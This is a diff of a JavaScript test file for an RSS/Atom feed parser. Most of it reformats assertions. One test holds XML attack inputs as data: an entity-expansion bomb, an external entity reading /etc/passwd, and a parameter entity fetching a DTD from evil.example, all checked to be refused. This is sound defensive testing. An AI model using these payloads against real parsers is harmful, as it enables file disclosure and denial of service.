@@ -76,7 +76,12 @@ describe('feed formats', () => {
   it('reads Atom, picking the alternate link', () => {
     const feed = parseFeed(atom, BASE);
     expect(feed.title).toBe('Atom News');
-    expect(feed.items[0]).toMatchObject({ title: 'Quake hits coast', url: 'https://atom.example/quake', guid: 'tag:atom.example,2025:1', description: 'Strong quake.' });
+    expect(feed.items[0]).toMatchObject({
+      title: 'Quake hits coast',
+      url: 'https://atom.example/quake',
+      guid: 'tag:atom.example,2025:1',
+      description: 'Strong quake.',
+    });
   });
 
   it('reads RSS 1.0 (RDF) and JSON Feed', () => {
@@ -119,9 +124,9 @@ describe('bad feeds give their error (RELIABILITY rows 18-24)', () => {
   it('refuses entity bombs and external entities without expanding them', () => {
     const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><rss><channel><item><title>&lol2;</title></item></channel></rss>`;
     expect(fails(laughs)).toMatch(/declares XML entities/);
-    expect(fails(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><item><title>&x;</title></item></channel></rss>`)).toMatch(
-      /declares XML entities/,
-    );
+    expect(
+      fails(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><item><title>&x;</title></item></channel></rss>`),
+    ).toMatch(/declares XML entities/);
     expect(fails(`<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><rss/>`)).toMatch(/declares XML entities/);
   });
 
